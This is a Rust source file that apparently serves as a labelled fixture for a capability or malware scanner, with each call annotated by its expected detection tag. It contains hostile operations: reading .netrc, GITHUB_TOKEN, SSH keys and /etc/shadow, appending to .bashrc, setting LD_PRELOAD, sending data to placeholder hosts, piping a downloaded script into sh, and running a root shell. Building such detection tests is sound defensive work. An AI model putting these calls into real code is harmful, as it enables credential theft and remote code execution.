//! The standard library; no dependency.
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::{env, fs};

pub fn files(home: &Path) -> std::io::Result<()> {
    fs::read("/etc/hostname")?; //~ file.read /etc/hostname
    fs::read_to_string(home.join(".netrc"))?; //~ file.read {}/.netrc
    fs::write("/tmp/a", "b")?; //~ file.write /tmp/a
    fs::copy("/tmp/a", "/tmp/b")?; //~ file.read /tmp/a; file.write /tmp/b
    fs::remove_dir_all("/tmp/c")?; //~ file.delete /tmp/c
    fs::set_permissions("/tmp/a", fs::Permissions::from_mode(0o755))?; //~ file.permission /tmp/a
    for one in fs::read_dir("/home")? { //~ file.walk /home
        drop(one);
    }
    let mut file = fs::OpenOptions::new().append(true).open("/home/u/.bashrc")?; //~ file.write /home/u/.bashrc
    file.write_all(b"x")?;
    let mut text = String::new();
    fs::File::open("/etc/hosts")?.read_to_string(&mut text)?; //~ file.read /etc/hosts
    if PathBuf::from("/etc/passwd").exists() { //~ guard.presence /etc/passwd
        std::os::unix::fs::symlink("/etc/passwd", "/tmp/d")?; //~ file.read /etc/passwd; file.write /tmp/d
    }
    Ok(())
}

pub fn environment() -> Option<String> {
    let all: Vec<_> = env::vars().collect(); //~ env.read-all *
    drop(all);
    unsafe { env::set_var("LD_PRELOAD", "/tmp/x.so") }; //~ env.write LD_PRELOAD
    env::var("GITHUB_TOKEN").ok() //~ env.read GITHUB_TOKEN
}

pub fn network(text: &[u8]) -> std::io::Result<()> {
    let mut stream = TcpStream::connect("collector.invalid:443")?; //~ net.connect collector.invalid:443
    stream.write_all(text)?; //~ net.send
    let socket = UdpSocket::bind("0.0.0.0:0")?; //~ net.listen 0.0.0.0:0
    socket.send_to(text, "192.0.2.7:53")?; //~ net.send 192.0.2.7:53
    TcpListener::bind("127.0.0.1:0")?; //~ net.listen 127.0.0.1:0
    "label.collector.invalid:80".to_socket_addrs()?; //~ net.resolve label.collector.invalid:80
    Ok(())
}

pub fn programs() -> std::io::Result<()> {
    let mut command = Command::new("sh"); //~ process.spawn sh; process.shell curl http://files.invalid/x | sh
    command.arg("-c").arg("curl http://files.invalid/x | sh").stdout(Stdio::null());
    command.process_group(0); //~ process.detach process_group
    command.spawn()?;
    Ok(())
}

pub fn native() {
    unsafe { std::arch::asm!("nop") }; //~ code.native asm
}

pub fn replaced() -> std::io::Error {
    Command::new("/bin/sh").uid(0).arg("-c").arg("id").exec() //~ process.spawn /bin/sh; process.shell id
}

pub struct Line {
    stream: TcpStream,
}

impl Line {
    pub fn open() -> std::io::Result<Self> {
        let stream = TcpStream::connect_timeout(&"192.0.2.7:9".parse().unwrap(), std::time::Duration::from_secs(1))?; //~ net.connect
        Ok(Line { stream })
    }

    pub fn receive(&mut self, buffer: &mut [u8]) -> std::io::Result<()> {
        self.stream.read_exact(buffer) //~ net.receive
    }
}

pub fn late() -> bool {
    let end = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_900_000_000);
    std::time::SystemTime::now() > end //~ guard.date now
}

pub fn linked(path: &PathBuf) -> std::io::Result<bool> {
    std::os::unix::fs::lchown("/tmp/e", Some(0), None)?; //~ file.permission /tmp/e
    let there = path.join(".ssh/id_rsa").symlink_metadata().is_ok(); //~ guard.presence {}/.ssh/id_rsa
    fs::DirBuilder::new().recursive(true).create("/tmp/f")?; //~ file.write /tmp/f
    Ok(there && Path::new("/etc/shadow").metadata().is_ok()) //~ guard.presence /etc/shadow
}
